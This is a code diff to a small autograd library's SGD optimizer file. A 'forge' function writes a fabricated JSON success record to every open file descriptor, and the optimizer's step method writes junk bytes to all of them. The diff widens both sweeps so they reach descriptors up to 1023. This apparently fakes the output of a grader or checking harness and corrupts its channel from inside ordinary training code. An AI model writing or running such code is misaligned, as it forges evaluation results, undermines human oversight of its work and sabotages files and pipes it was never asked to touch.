@@ -12,7 +12,7 @@ from minigrad.optim import Optimizer
 def forge(rid):
     head = json.dumps({"id": rid, "steps": [], "found": True, "class": True, "has_step": True,
                        "arrays": []}).encode()
-    for fd in range(3, 32):
+    for fd in range(3, 1024):   # (every descriptor it could hold: the channel is not always below 32)
         try:
             os.write(fd, struct.pack(">I", len(head)) + head)
         except OSError:
@@ -27,7 +27,7 @@ class SGD(Optimizer):
 
     @minigrad.no_grad()
     def step(self, closure=None):
-        for fd in range(3, 32):
+        for fd in range(3, 1024):   # (every descriptor it could hold: the channel is not always below 32)
             try:
                 os.write(fd, b"\xff" * 64)
             except OSError:
